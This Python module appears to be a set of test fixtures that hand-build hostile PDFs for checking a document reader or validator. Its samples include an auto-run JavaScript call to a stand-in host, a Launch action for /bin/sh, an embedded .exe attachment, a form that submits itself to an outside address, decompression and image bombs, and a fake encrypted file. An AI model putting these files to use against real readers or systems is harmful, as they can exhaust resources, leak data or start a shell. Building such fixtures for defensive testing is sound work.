"""PDFs written by hand, with whatever a hostile hand puts in."""

from __future__ import annotations

import zlib

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>%s>>"
TEXT = b"BT /F 18 Tf 20 40 Td (MSKU4711001) Tj ET"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
INFO = (
    b"<</Author(Jan Janssen)/Producer(Quayphone)/CreationDate(D:20260302041100Z)/Title(behind crane seven)>>"
)


def pdf(
    *further: bytes,
    catalog: bytes = b"",
    page: bytes = b"",
    content: bytes = TEXT,
    count: int = 1,
    box: bytes = b"",
    filters: bytes = b"",
) -> bytes:
    """A PDF of one page (or `count` times the same); further objects are numbered from 7 on."""
    sheet = PAGE % page
    if box:
        sheet = sheet.replace(b"[0 0 200 100]", box)
    kids = b" ".join([b"3 0 R"] * count)
    objects = (
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids),
        sheet,
        b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), filters, content),
        FONT,
        INFO,
        *further,
    )
    written, starts = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, start=1):
        starts.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % start for start in starts)
    size, where = len(objects) + 1, len(written)
    return bytes(written) + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R/Info 6 0 R>>\n"
        b"startxref\n%d\n%%%%EOF\n" % (size, table, size, where)
    )


def script(code: bytes = b"app.launchURL\\('http://192.0.2.1/'\\)") -> bytes:
    return pdf(b"<</S/JavaScript/JS(%s)>>" % code, catalog=b"/OpenAction 7 0 R")


def launch() -> bytes:
    return pdf(b"<</S/Launch/F(/bin/sh)>>", catalog=b"/OpenAction 7 0 R")


def embedded() -> bytes:
    """A file inside the document, as an attachment."""
    return pdf(
        b"<</Type/Filespec/F(a.exe)/EF<</F 8 0 R>>>>",
        b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
        catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe)7 0 R]>>>>",
    )


def form() -> bytes:
    """A form that sends itself away."""
    return pdf(
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(Jan Janssen)/Rect[10 10 90 30]/AA<</F 8 0 R>>>>",
        b"<</S/SubmitForm/F(http://192.0.2.1/)>>",
        catalog=b"/AcroForm<</Fields[7 0 R]>>",
        page=b"/Annots[7 0 R]",
    )


def flate_bomb(megabytes: int = 300) -> bytes:
    """Page content of some hundred kB that unfolds to `megabytes`."""
    packer = zlib.compressobj(9)
    block = b"0 0 m 1 1 l S " * 74_898  # one MB
    packed = b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()
    return pdf(content=packed, filters=b"/Filter/FlateDecode")


def picture_bomb(side: int = 30_000) -> bytes:
    """A page that shows a picture of `side` squared pixels, packed into some hundred kB."""
    packed = zlib.compress(bytes(side) * (side // 100), 9)
    return pdf(
        b"<</Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceRGB/BitsPerComponent 8"
        b"/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (side, side, len(packed), packed),
        page=b"/Resources<</XObject<</P 7 0 R>>>>",
        content=b"q 200 0 0 100 0 0 cm /P Do Q",
    )


def locked() -> bytes:
    """Says that it is encrypted, with a key that nobody has."""
    lock = b"/Encrypt<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>/ID[<00><00>]" % (b"41" * 32, b"42" * 32)
    return pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R" + lock)
